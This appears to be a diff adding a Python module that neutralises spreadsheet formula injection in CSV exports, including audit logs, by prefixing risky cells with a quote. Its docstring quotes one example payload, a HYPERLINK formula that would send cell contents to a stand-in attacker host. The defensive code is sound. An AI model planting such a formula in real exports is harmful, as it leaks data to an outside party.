@@ -1,0 +1,48 @@
+"""CSV files the product writes, with every cell safe to open in a spreadsheet.
+
+A spreadsheet evaluates a cell that begins with =, +, - or @ as a formula, and one that begins
+with a tab or a carriage return can be made to do the same after trimming. Reasons, comments
+and business keys are typed by people (or arrive from other systems), so a value like
+=HYPERLINK("http://evil.example/?x="&A1,"click") would turn the auditor's export into a live
+link or worse. Such a cell gets a leading single quote, which spreadsheets show as text and
+which keeps the value otherwise intact. Every CSV writer goes through csv_lines.
+"""
+
+import csv
+from collections.abc import Iterable, Iterator
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+AUDIT_HEADER = ["id", "run", "seq", "time", "actor", "action", "step", "reason", "before",
+                "after", "hash"]
+
+
+def neutralise_cell(value) -> str:
+    """The cell's text, prefixed with ' when a spreadsheet would read it as a formula."""
+    text = "" if value is None else str(value)
+    if text.startswith(FORMULA_PREFIXES):
+        return "'" + text
+    return text
+
+
+class _Echo:
+    """A file-like object whose write returns the line, so csv.writer can stream."""
+
+    def write(self, value):
+        return value
+
+
+def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
+    """The header and the rows as CSV lines, every cell neutralised (for streaming)."""
+    writer = csv.writer(_Echo())
+    yield writer.writerow([neutralise_cell(c) for c in header])
+    for row in rows:
+        yield writer.writerow([neutralise_cell(c) for c in row])
+
+
+def audit_csv_lines(records) -> Iterator[str]:
+    """The audit records (a queryset) as CSV lines, read in chunks so memory stays flat."""
+    rows = ([r.pk, r.run_id, r.seq, r.created_at.isoformat(), r.actor_label, r.action,
+             r.step_name, r.reason, r.before, r.after, r.hash]
+            for r in records.iterator(chunk_size=2000))
+    return csv_lines(AUDIT_HEADER, rows)
